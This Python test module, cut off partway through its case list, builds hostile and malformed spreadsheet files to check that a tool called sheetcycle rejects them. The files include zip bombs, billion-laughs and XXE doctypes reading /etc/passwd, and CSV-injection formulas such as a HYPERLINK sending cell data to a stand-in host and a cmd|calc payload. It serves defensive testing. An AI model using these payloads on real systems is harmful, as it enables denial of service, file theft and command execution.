"""A corpus of bad, hostile and odd input files, made by code (nothing binary is committed).

``build_corpus(folder)`` writes every case into ``folder`` and returns the list of
:class:`Case`; each says which exit code ``sheetcycle annotate`` must give and what its
one message (or its report) must name. Workbooks are written as package parts by hand
(:func:`package`), so every byte that matters is under the test's control; the lab data
are invented (a scenario of our own) around real formulas and rough formation
enthalpies (NBS tables, Wagman et al. 1982, from memory, to a few kJ/mol).

File-format facts used here, with their sources:

* zip: PKWARE APPNOTE.TXT 6.3 (local header 4.3.7, central directory 4.3.12, sizes at
  offsets 20/24 of a central entry), deflate RFC 1951 (maximum ratio about 1032:1);
* the compound file of an encrypted OOXML package: [MS-CFB] 2.2 (header), 2.3 (FAT),
  2.6 (directory entries) and [MS-OFFCRYPTO] 2.3.4.10 (agile EncryptionInfo, version 4.4);
* SpreadsheetML: ECMA-376 Part 1, 18.3 (worksheets), 18.4 (shared strings), limits of a
  worksheet (1,048,576 rows, 16,384 columns, 32,767 characters a cell) from the
  application's published "specifications and limits" (from memory).
"""

from __future__ import annotations

import base64
import csv
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAX_ROWS = 1_048_576
MAX_CELL_CHARS = 32_767

#: Strings that a spreadsheet application would run as formulas if written as cell text
#: without a string type (OWASP "CSV injection": leading = + - @, tab, CR).
INJECTIONS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
)

# Invented lab rows: (compound, formation enthalpy kJ/mol); rough values from memory.
GOOD_ROWS: tuple[tuple[str, float], ...] = (
    ("NaCl", -411.2),
    ("KCl", -436.5),
    ("MgO", -601.6),
    ("CaF2", -1228.0),
    ("LiF", -616.0),
)
HEADER = ("Compound", "ΔfH° / kJ mol⁻¹", "Remarks")


@dataclass(frozen=True)
class F:
    """A formula cell in :func:`sheet_xml`: text without '=', optional cached value."""

    text: str
    cached: object = None


@dataclass(frozen=True)
class Case:
    """One corpus file and what ``sheetcycle annotate FILE --json R -o X`` must do with it."""

    name: str
    filename: str
    build: Callable[[Path], None] = field(repr=False)
    exit_code: int
    #: words the one stderr message must hold (exit 1), lower-cased comparison
    words: tuple[str, ...] = ()
    #: exit 0: flags the JSON report must hold, as (code, cell); None matches any
    flags: tuple[tuple[str | None, str | None], ...] = ()
    seconds: float = 60.0
    max_rss_mib: int = 1024
    #: strings that must come out as plain strings in both outputs
    texts: tuple[str, ...] = ()
    #: a sheet that some flag of the report must name (exit 0)
    flag_sheet: str | None = None
    #: more command-line arguments
    args: tuple[str, ...] = ()
    #: the pytest.mark.xfail reason when a fix is needed outside tests/badinput
    xfail: str | None = None


# --------------------------------------------------------------------------- packages


def _cell(ref: str, v: object) -> str:
    if v is None:
        return ""
    if isinstance(v, F):
        f = f"<f>{_xml_text(v.text)}</f>"
        if v.cached is None:
            return f'<c r="{ref}">{f}</c>'
        if isinstance(v.cached, str):
            return f'<c r="{ref}" t="str">{f}<v>{escape(v.cached)}</v></c>'
        return f'<c r="{ref}">{f}<v>{v.cached!r}</v></c>'
    if isinstance(v, bool):
        return f'<c r="{ref}" t="b"><v>{int(v)}</v></c>'
    if isinstance(v, int | float):
        return f'<c r="{ref}"><v>{float(v)!r}</v></c>'
    if isinstance(v, tuple) and v and v[0] == "e":  # ("e", "#REF!"): an error value
        return f'<c r="{ref}" t="e"><v>{escape(v[1])}</v></c>'
    if isinstance(v, tuple) and v and v[0] == "s":  # ("s", index): a shared string
        return f'<c r="{ref}" t="s"><v>{v[1]}</v></c>'
    text = str(v)
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return f'<c r="{ref}" t="inlineStr"><is><t{space}>{_xml_text(text)}</t></is></c>'


def _xml_text(text: str) -> str:
    out = escape(text)
    return out.replace("\r", "&#13;").replace("\t", "&#9;")


def letters(col: int) -> str:
    out = ""
    col += 1
    while col:
        col, r = divmod(col - 1, 26)
        out = chr(65 + r) + out
    return out


def sheet_xml(rows: Sequence[Sequence[object]], *, start: int = 1, after: str = "") -> str:
    """The <sheetData> content for rows of Python values (str, float, F, ('e', code))."""
    out = []
    for i, row in enumerate(rows):
        r = start + i
        cells = "".join(_cell(f"{letters(c)}{r}", v) for c, v in enumerate(row))
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out) + after


def worksheet(data: str, *, tail: str = "") -> str:
    return (
        f'{XML_HEAD}<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheetData>{data}'
        f"</sheetData>{tail}</worksheet>"
    )


def package(
    path: Path,
    sheets: Sequence[tuple[str, str]],
    *,
    shared: Sequence[str] | None = None,
    app: str | None = "Microsoft Excel",
    parts: dict[str, bytes | str] | None = None,
    replace: dict[str, bytes | str] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> Path:
    """A minimal but complete xlsx package; ``sheets`` are (name, whole worksheet XML).

    ``parts`` adds parts; ``replace`` swaps the text of a generated part (by its name).
    """
    files: dict[str, bytes | str] = {}
    overrides = [
        f'<Override PartName="/xl/workbook.xml" ContentType="{CT}sheet.main+xml"/>',
        f'<Override PartName="/xl/styles.xml" ContentType="{CT}styles+xml"/>',
    ]
    rels = [
        f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
    ]
    if app is not None:
        rels.append(
            f'<Relationship Id="rId2" Type="{REL_NS}/extended-properties" '
            'Target="docProps/app.xml"/>'
        )
        files["docProps/app.xml"] = (
            f'{XML_HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/extended-properties"><Application>{escape(app)}</Application></Properties>'
        )
    files["_rels/.rels"] = (
        f'{XML_HEAD}<Relationships xmlns="{PKG_REL}">{"".join(rels)}</Relationships>'
    )
    wb_rels = [
        f'<Relationship Id="rIdS" Type="{REL_NS}/styles" Target="styles.xml"/>'
    ]
    sheet_els = []
    for i, (name, xml) in enumerate(sheets, start=1):
        wb_rels.append(
            f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" '
            f'Target="worksheets/sheet{i}.xml"/>'
        )
        sheet_els.append(f'<sheet name={quoteattr(name)} sheetId="{i}" r:id="rId{i}"/>')
        overrides.append(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
            f'ContentType="{CT}worksheet+xml"/>'
        )
        files[f"xl/worksheets/sheet{i}.xml"] = xml
    if shared is not None:
        wb_rels.append(
            f'<Relationship Id="rIdSST" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
        )
        overrides.append(
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{CT}sharedStrings+xml"/>'
        )
        sis = "".join(f"<si><t>{_xml_text(s)}</t></si>" for s in shared)
        files["xl/sharedStrings.xml"] = (
            f'{XML_HEAD}<sst xmlns="{MAIN_NS}" count="{len(shared)}" '
            f'uniqueCount="{len(shared)}">{sis}</sst>'
        )
    files["xl/workbook.xml"] = (
        f'{XML_HEAD}<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
        f'{"".join(sheet_els)}</sheets><calcPr calcId="191029"/></workbook>'
    )
    files["xl/_rels/workbook.xml.rels"] = (
        f'{XML_HEAD}<Relationships xmlns="{PKG_REL}">{"".join(wb_rels)}</Relationships>'
    )
    files["xl/styles.xml"] = (
        f'{XML_HEAD}<styleSheet xmlns="{MAIN_NS}"><fonts count="1"><font><sz val="11"/>'
        '<name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill '
        'patternType="none"/></fill></fills><borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf/>'
        '<xf numFmtId="0" applyFont="1"/></cellXfs></styleSheet>'
    )
    files["[Content_Types].xml"] = (
        f'{XML_HEAD}<Types xmlns="{CT_NS}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'{"".join(overrides)}</Types>'
    )
    files.update(parts or {})
    files.update(replace or {})
    with zipfile.ZipFile(path, "w", compression, allowZip64=True) as zf:
        for name in ["[Content_Types].xml", *sorted(set(files) - {"[Content_Types].xml"})]:
            data = files[name]
            zf.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return path


def lab_sheet(rows: Sequence[Sequence[object]] = (), header: Sequence[object] = HEADER) -> str:
    """A worksheet with the usual header and the good rows, then ``rows``."""
    body = [list(header), *[[f, h, "ok"] for f, h in GOOD_ROWS], *[list(r) for r in rows]]
    return worksheet(sheet_xml(body))


def good_book(path: Path) -> Path:
    return package(path, [("Salts", lab_sheet())])


def rezip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None]) -> Path:
    """Copy a package, passing every part through ``change`` (None drops the part)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
    return dst


# --------------------------------------------------------------------------- raw files


def compound_file(path: Path, streams: dict[str, bytes]) -> Path:
    """A version-3 compound file ([MS-CFB]) holding ``streams`` in its root storage.

    Every stream is padded to at least the 4096-byte mini-stream cutoff, so all live in
    ordinary 512-byte sectors and no mini FAT is needed.
    """
    sector = 512
    end, free, fat_sect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    nostream = 0xFFFFFFFF
    names = list(streams)
    datas = [streams[n].ljust(4096, b"\0") for n in names]
    n_dir_entries = 1 + len(names)
    dir_sectors = -(-n_dir_entries * 128 // sector)
    chains: list[tuple[int, int]] = []  # (first sector, count) of each stream
    next_free = 1 + dir_sectors  # sector 0 is the FAT
    for d in datas:
        count = -(-len(d) // sector)
        chains.append((next_free, count))
        next_free += count
    total = next_free
    assert total <= sector // 4, "one FAT sector is enough for this small file"
    fat = [free] * (sector // 4)
    fat[0] = fat_sect
    for k in range(dir_sectors):
        fat[1 + k] = 2 + k if k + 1 < dir_sectors else end
    for first, count in chains:
        for k in range(count):
            fat[first + k] = first + k + 1 if k + 1 < count else end

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)  # length, type, colour black
            + struct.pack("<III", nostream, right, child)  # left, right sibling, child
            + b"\0" * 16  # CLSID
            + struct.pack("<I", 0)  # state bits
            + b"\0" * 16  # creation and modification times
            + struct.pack("<IQ", start, size)
        )

    # Siblings form a chain of right links; names sort by length first ([MS-CFB] 2.6.4).
    order = sorted(range(len(names)), key=lambda i: (len(names[i]), names[i].upper()))
    entries = [b""] * n_dir_entries
    entries[0] = entry("Root Entry", 5, 1 + order[0], nostream, end, 0)
    for pos, i in enumerate(order):
        right = 1 + order[pos + 1] if pos + 1 < len(order) else nostream
        entries[1 + i] = entry(names[i], 2, nostream, right, chains[i][0], len(streams[names[i]]))
    directory = b"".join(entries).ljust(dir_sectors * sector, b"\0")
    difat = [0] + [free] * 108
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<109I", *difat)
    )
    assert len(header) == sector
    body = struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(
        d.ljust(count * sector, b"\0") for d, (_, count) in zip(datas, chains, strict=True)
    )
    path.write_bytes(header + body)
    return path


def encrypted_workbook(path: Path) -> Path:
    """What a spreadsheet application saves for a password-protected workbook: a compound
    file with an agile EncryptionInfo stream and an EncryptedPackage (invented key data)."""
    xml = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        b'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
    )
    info = struct.pack("<HHI", 4, 4, 0x40) + xml
    package_bytes = struct.pack("<Q", 6000) + os.urandom(6000)
    return compound_file(path, {"EncryptionInfo": info, "EncryptedPackage": package_bytes})


def deflate_blanks(head: bytes, total: int) -> tuple[bytes, int]:
    """Raw deflate data (RFC 1951) of ``head`` followed by blanks up to ``total`` bytes,
    and the CRC-32 of the whole.

    After a full flush a deflate stream depends on no earlier data, so one 16 MiB piece of
    blanks is compressed once and its output repeated: a 1 GiB member costs a second.
    """
    left = total - len(head)
    piece = b" " * min(16 << 20, left)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)]
    crc = zlib.crc32(head)
    one = comp.compress(piece) + comp.flush(zlib.Z_FULL_FLUSH)
    while left >= len(piece) > 0:
        out.append(one)
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    out.append(comp.compress(piece[:left]) + comp.flush())
    crc = zlib.crc32(piece[:left], crc)
    return b"".join(out), crc


def _raw_zip(path: Path, members: Sequence[tuple[str, bytes, int, int, int]]) -> Path:
    """Write a zip by hand: members are (name, deflated data, crc, declared size, real size).

    The declared uncompressed size goes into both the local and the central header, so a
    member can claim to be smaller than what its data inflates to.
    """
    out = bytearray()
    central = bytearray()
    for name, data, crc, declared, _real in members:
        raw_name = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), declared,
            len(raw_name), 0,
        )
        out += raw_name + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data),
            declared, len(raw_name), 0, 0, 0, 0, 0, offset,
        )
        central += raw_name
    cd_offset = len(out)
    out += central
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_offset, 0
    )
    path.write_bytes(bytes(out))
    return path


def _deflated(data: bytes) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush()


def zip_bomb(path: Path, *, size: int = 1 << 30, lie: bool = False) -> Path:
    """An xlsx whose worksheet part inflates to ``size`` bytes (blanks after the root tag).

    With ``lie`` both headers declare the worksheet to be 4,000 bytes.
    """
    members = []
    with zipfile.ZipFile(good_book(path.with_suffix(".base"))) as zf:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                blob, crc = deflate_blanks(data[: data.index(b"<sheetData>")], size)
                members.append((info.filename, blob, crc, 4000 if lie else size, size))
            else:
                members.append((info.filename, _deflated(data), zlib.crc32(data), len(data),
                                len(data)))
    path.with_suffix(".base").unlink()
    return _raw_zip(path, members)


# --------------------------------------------------------------------------- the cases


def _write(data: bytes) -> Callable[[Path], None]:
    return lambda p: p.write_bytes(data)


def _book(*sheets: tuple[str, str], **kw: object) -> Callable[[Path], None]:
    return lambda p: package(p, list(sheets), **kw)  # type: ignore[arg-type]


def _lab(rows: Sequence[Sequence[object]] = (), header: Sequence[object] = HEADER,
         **kw: object) -> Callable[[Path], None]:
    return _book(("Salts", lab_sheet(rows, header)), **kw)


def _truncated(fraction: float) -> Callable[[Path], None]:
    def build(p: Path) -> None:
        full = package(p.with_suffix(".full"), [("Salts", lab_sheet([[f"X{i}", float(i)]
                                                                      for i in range(3000)]))])
        data = full.read_bytes()
        full.unlink()
        p.write_bytes(data[: int(len(data) * fraction)])

    return build


def _many_parts(p: Path) -> None:
    extra = {f"xl/media/image{i}.bin": b"x" for i in range(10_001)}
    package(p, [("Salts", lab_sheet())], parts=extra, compression=zipfile.ZIP_STORED)


def _many_small_bombs(p: Path) -> None:
    """1,100 worksheets of 1 MiB blanks each: every member stays below the per-member
    ratio check, the whole unpacks to 1.07 GiB from about 1.2 MB."""
    members = []
    names = [(f"S{i}", worksheet("")) for i in range(1, 1101)]
    with zipfile.ZipFile(package(p.with_suffix(".base"), names)) as zf:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename.startswith("xl/worksheets/"):
                blob, crc = deflate_blanks(data[: data.index(b"<sheetData>")], 1 << 20)
                members.append((info.filename, blob, crc, 1 << 20, 1 << 20))
            else:
                members.append((info.filename, _deflated(data), zlib.crc32(data), len(data),
                                len(data)))
    p.with_suffix(".base").unlink()
    _raw_zip(p, members)


def _declared_huge(p: Path) -> None:
    """A member whose headers declare 3 GiB (more than the total limit) for 1 KiB of data."""
    with zipfile.ZipFile(good_book(p.with_suffix(".base"))) as zf:
        members = []
        for info in zf.infolist():
            data = zf.read(info)
            members.append((info.filename, _deflated(data), zlib.crc32(data), len(data),
                            len(data)))
    p.with_suffix(".base").unlink()
    members.append(("xl/media/big.bin", _deflated(b"\0" * 1024), zlib.crc32(b"\0" * 1024),
                    3 << 30, 1024))
    _raw_zip(p, members)


def _dtd(part: str, doctype: str, *, pad: int = 0) -> Callable[[Path], None]:
    """The good book with ``doctype`` (and ``pad`` bytes of comment before it) in ``part``."""

    def build(p: Path) -> None:
        base = package(p.with_suffix(".base"), [("Salts", lab_sheet([[("s", 0), -1.0]]))],
                       shared=["NaBr"])
        comment = f"<!--{'x' * pad}-->" if pad else ""

        def change(name: str, data: bytes) -> bytes:
            if name != part:
                return data
            text = data.decode()
            i = text.index("?>") + 2
            return (text[:i] + comment + doctype + text[i:]).encode()

        rezip(base, p, change)
        base.unlink()

    return build


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _with_entity(part: str, doctype: str, entity: str, pad: int = 0) -> Callable[[Path], None]:
    """The DTD and a use of its entity inside a text of ``part``."""
    inner = _dtd(part, doctype, pad=pad)

    def build(p: Path) -> None:
        inner(p)
        rezip(p, p.with_suffix(".tmpzip"),
              lambda n, d: d.replace(b"NaBr", entity.encode()) if n == part else d)
        p.with_suffix(".tmpzip").replace(p)

    return build


def _blank_rows(p: Path) -> None:
    """Five compounds, then 100,000 styled blank rows, then one more compound."""
    body = sheet_xml([list(HEADER), *[[f, h] for f, h in GOOD_ROWS]])
    blanks = "".join(
        f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/><c r="B{r}" s="1"/></row>'
        for r in range(7, 100_007)
    )
    tail = sheet_xml([["KBr", -393.8]], start=100_007)
    package(p, [("Salts", worksheet(body + blanks + tail))])


def _merged_header(p: Path) -> None:
    rows = [["Compound", "ΔfH° / kJ mol⁻¹", None], *[[f, h, h] for f, h in GOOD_ROWS]]
    package(p, [("Salts", worksheet(sheet_xml(rows),
                                    tail='<mergeCells count="1"><mergeCell ref="B1:C1"/>'
                                    "</mergeCells>"))])


def _huge_shared_string(p: Path, *, slashes: bool = False) -> None:
    """A 10 MiB shared string as a compound (row 7) and as every remark.

    Random letters (base64 of random bytes), so it compresses like real text; without
    ``slashes`` the '/' and '+' of base64 are replaced by letters."""
    big = "Na" + base64.b64encode(random.Random(8).randbytes(7_864_320)).decode("ascii")
    if not slashes:
        big = big.replace("/", "a").replace("+", "b")
    rows = [list(HEADER), *[[f, h, ("s", 0)] for f, h in GOOD_ROWS], [("s", 0), -1.0]]
    package(p, [("Salts", worksheet(sheet_xml(rows)))], shared=[big])


def _injection_book(p: Path) -> None:
    """An injection string in every text position: sheet name, header, compound cell,
    remark, and the text result of a formula cell."""
    sheets = []
    for k, s in enumerate(INJECTIONS):
        name = s.replace("/", "_").replace(":", "_").replace("?", "_").replace("[", "(")
        name = name.replace("]", ")").replace("*", "_").replace("\\", "_").strip("'")[:31]
        rows = [
            ["Compound", "ΔfH° / kJ mol⁻¹", s],
            ["NaCl", -411.2, s],
            [s, -400.0, F('"' + s.replace('"', '""') + '"', s)],
            ["KCl", -436.5, F('"' + s.replace('"', '""') + '"', s)],
        ]
        sheets.append((f"{name}{k}" if k else name, worksheet(sheet_xml(rows))))
    package(p, sheets, app="sheetcycle-corpus")


def _csv_injection(p: Path) -> None:
    with open(p, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Compound", "ΔfH / kJ mol-1", "Remarks"])
        for s in INJECTIONS:
            w.writerow([s, -300, s])


def _deep_formula(p: Path) -> None:
    f = "(" * 5000 + "-411.2" + ")" * 5000
    package(p, [("Salts", lab_sheet([["NaBr", F(f)]]))], app="sheetcycle-corpus")


def _csv_huge_field(p: Path) -> None:
    p.write_text("Compound,ΔfH / kJ mol-1,Remarks\nNaCl,-411.2," + "y" * 200_000 + "\n",
                 encoding="utf-8")


def _ods_bomb(p: Path) -> None:
    head = b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
    blob, crc = deflate_blanks(head, 1 << 30)
    mt = b"application/vnd.oasis.opendocument.spreadsheet"
    members = [
        ("mimetype", _deflated(mt), zlib.crc32(mt), len(mt), len(mt)),
        ("content.xml", blob, crc, 1 << 30, 1 << 30),
    ]
    _raw_zip(p, members)


def _bad_sst_index(p: Path) -> None:
    package(p, [("Salts", lab_sheet([[("s", 99), -1.0]]))], shared=["NaBr"])


def _broken_sst(p: Path) -> None:
    package(p, [("Salts", lab_sheet([[("s", 0), -1.0]]))], shared=["NaBr"],
            replace={"xl/sharedStrings.xml": f'{XML_HEAD}<sst xmlns="{MAIN_NS}"><si><t>NaBr'
                                              "</si></sst>"})


def _far_row(p: Path) -> None:
    """A cell beyond the last row a worksheet can have (row 99,999,999)."""
    body = sheet_xml([list(HEADER), *[[f, h] for f, h in GOOD_ROWS]])
    far = '<row r="99999999"><c r="A99999999"><v>1</v></c></row>'
    package(p, [("Salts", worksheet(body + far))])


def _far_row_general(p: Path) -> None:
    """The same, in a row whose cells carry no reference (the reader's general path)."""
    body = sheet_xml([list(HEADER), *[[f, h] for f, h in GOOD_ROWS]])
    far = '<row r="99999999"><c><v>1</v></c></row>'
    package(p, [("Salts", worksheet(body + far))])


def _invalid_utf8(p: Path) -> None:
    """A worksheet with a byte that is not UTF-8 inside an inline string (row 7)."""
    xml = lab_sheet([["NaBr", -361.1]]).encode().replace(b">NaBr<", b">Na\xffBr<")
    package(p, [("Salts", "")], replace={"xl/worksheets/sheet1.xml": xml})


NO_TABLE = ("needs fix in sheetcycle/api.py _read_tables: a sheet where no table is found "
            "gets a file flag naming it")
DUPLICATE = ("needs fix in sheetcycle/io/tables.py find_tables: a second column of the same "
             "quantity gets a flag at its header cell")
UNKNOWN_UNIT = ("needs fix in sheetcycle/io/tables.py find_tables: a header that names a "
                "quantity with an unparseable unit gets a unit-unusable flag")
LONG_HEADER = ("needs fix in sheetcycle/io/headers.py split_header: a text of 10 MB with "
               "many '/' is sliced and unit-parsed at every '/' (quadratic: >20 GiB); texts "
               "longer than a header can be are not headers")
SCHEDULA_LOG = ("needs fix in sheetcycle/io/evaluate.py: silence the schedula/formulas "
                "loggers, which print a traceback for an unknown function")


def cases() -> list[Case]:
    """Every corpus case (the files are made by :func:`build_corpus`)."""
    big = "Na" + "x" * (MAX_CELL_CHARS - 2)
    c: list[Case] = [
        # -- files that are no workbook ----------------------------------------------
        Case("not-a-zip", "notes.xlsx", _write(b"Compound,dHf\nNaCl,-411\n"), 1,
             ("not an xlsx", "zip")),
        Case("empty-file", "empty.xlsx", _write(b""), 1, ("not an xlsx",)),
        Case("random-bytes", "noise.xlsx", _write(bytes(range(256)) * 64), 1, ("not an xlsx",)),
        Case("png-named-xlsx", "picture.xlsx",
             _write(b"\x89PNG\r\n\x1a\n" + b"\0" * 200), 1, ("not an xlsx",)),
        Case("truncated-half", "cut.xlsx", _truncated(0.5), 1, ("truncated",)),
        Case("truncated-tail", "cut-tail.xlsx", _truncated(0.995), 1, ("truncated",)),
        Case("zip-without-workbook", "plain.xlsx",
             lambda p: zipfile.ZipFile(p, "w").writestr("hello.txt", "hi"), 1,
             ("not an xlsx workbook",)),
        Case("encrypted", "locked.xlsx", encrypted_workbook, 1, ("encrypted", "unprotected")),
        Case("empty-workbook", "nosheets.xlsx", _book(), 1, ("no worksheets",)),
        Case("sheet-part-missing", "nosheetpart.xlsx",
             lambda p: rezip(package(p.with_suffix(".b"), [("Salts", lab_sheet())]), p,
                             lambda n, d: None if n.startswith("xl/worksheets/") else d),
             1, ("no worksheets",)),
        Case("workbook-part-missing", "nowb.xlsx",
             lambda p: rezip(package(p.with_suffix(".b"), [("Salts", lab_sheet())]), p,
                             lambda n, d: None if n == "xl/workbook.xml" else d),
             1, ("no workbook part",)),
        Case("too-many-parts", "parts.xlsx", _many_parts, 1, ("too many zip entries",)),
        Case("garbage-xls", "old.xls", _write(b"\xd0\xcf\x11\xe0" + b"\x01" * 3000), 1,
             (".xls",)),
        Case("garbage-ods", "open.ods", _write(b"PK\x03\x04" + b"\x07" * 3000), 1, ("ods",)),
        Case("workbook-xml-broken", "badwb.xlsx",
             _lab(replace={"xl/workbook.xml": "<workbook><sheets><sheet"}), 1,
             ("xl/workbook.xml", "not well-formed")),
        Case("sheet-xml-invalid-utf8", "badutf8.xlsx", _invalid_utf8, 1, ("salts",)),
        # -- hostile files ---------------------------------------------------------------
        Case("zip-bomb", "bomb.xlsx", lambda p: zip_bomb(p), 1, ("zip bomb",), seconds=20,
             max_rss_mib=1024),
        Case("zip-bomb-lying-size", "liar.xlsx", lambda p: zip_bomb(p, lie=True), 1,
             ("xl/worksheets/sheet1.xml",), seconds=20, max_rss_mib=1024),
        Case("zip-bomb-many-small", "spread.xlsx", _many_small_bombs, 1, ("zip bomb",),
             seconds=20, max_rss_mib=1024),
        Case("zip-declared-huge", "declared.xlsx", _declared_huge, 1, ("zip bomb",)),
        Case("ods-zip-bomb", "bomb.ods", _ods_bomb, 1, ("zip bomb",), seconds=20,
             max_rss_mib=1024),
        Case("billion-laughs-sst", "laughs.xlsx",
             _with_entity("xl/sharedStrings.xml", LAUGHS, "&lol9;"), 1,
             ("xl/sharedStrings.xml", "document type declaration")),
        Case("billion-laughs-sheet", "laughs2.xlsx",
             _dtd("xl/worksheets/sheet1.xml", LAUGHS), 1,
             ("xl/worksheets/sheet1.xml", "document type declaration")),
        Case("xxe-sheet", "xxe.xlsx", _dtd("xl/worksheets/sheet1.xml", XXE), 1,
             ("document type declaration",)),
        Case("xxe-workbook", "xxe2.xlsx", _with_entity("xl/workbook.xml", XXE, "&xxe;"), 1,
             ("xl/workbook.xml", "document type declaration")),
        Case("xxe-rels", "xxe3.xlsx", _dtd("xl/_rels/workbook.xml.rels", XXE), 1,
             ("workbook.xml.rels", "document type declaration")),
        Case("doctype-after-long-comment", "hidden.xlsx",
             _with_entity("xl/sharedStrings.xml", LAUGHS, "&lol9;", pad=9000), 1,
             ("xl/sharedStrings.xml",)),
        Case("shared-strings-malformed", "badsst.xlsx", _broken_sst, 1,
             ("xl/sharedStrings.xml", "not well-formed")),
        Case("shared-string-index-out-of-range", "badindex.xlsx", _bad_sst_index, 1,
             ("salts", "a7")),
        Case("row-beyond-sheet-limit", "far.xlsx", _far_row, 1, ("salts", "1,048,576")),
        Case("row-beyond-sheet-limit-general", "far2.xlsx", _far_row_general, 1,
             ("salts", "1,048,576")),
        Case("csv-huge-field", "huge.csv", _csv_huge_field, 0),
        # -- structural problems -----------------------------------------------------
        Case("no-header", "noheader.xlsx",
             _book(("Data", worksheet(sheet_xml([[f, h] for f, h in GOOD_ROWS]))),), 0,
             flag_sheet="Data"),
        Case("merged-header", "merged.xlsx", _merged_header, 0),
        Case("duplicate-headers", "dup.xlsx",
             _lab(header=("Compound", "ΔfH° / kJ mol⁻¹", "ΔfH° / kJ mol⁻¹")), 0,
             flags=((None, "C1"),)),
        Case("blank-rows-100k", "blanks.xlsx", _blank_rows, 0, seconds=90),
        Case("header-only", "headeronly.xlsx",
             _book(("Salts", worksheet(sheet_xml([list(HEADER)]))),), 0),
        Case("empty-sheet", "emptysheet.xlsx", _book(("Salts", worksheet(""))), 0,
             flag_sheet="Salts"),
        # -- bad columns ---------------------------------------------------------------
        Case("wrong-unit-J-per-K", "jk.xlsx",
             _lab(header=("Compound", "ΔfH° / J K⁻¹ mol⁻¹", "Remarks")), 0,
             flags=(("unit-unusable", "B1"),)),
        Case("unknown-unit", "bananas.xlsx",
             _lab(header=("Compound", "ΔfH° / bananas", "Remarks")), 0,
             flags=((None, "B1"),)),
        Case("text-in-numeric", "text.xlsx", _lab([["NaBr", "about minus 361"]]), 0,
             flags=(("cell-not-number", "B7"),)),
        Case("unicode-minus", "minus.xlsx", _lab([["NaBr", "−361.1"], ["NaI", "\u2012287.8"]]),
             0),
        Case("infinite-and-nan-text", "inf.xlsx", _lab([["NaBr", "inf"], ["NaI", "nan"],
                                                        ["KI", "1e999"]]), 0,
             flags=(("cell-not-number", "B7"),)),
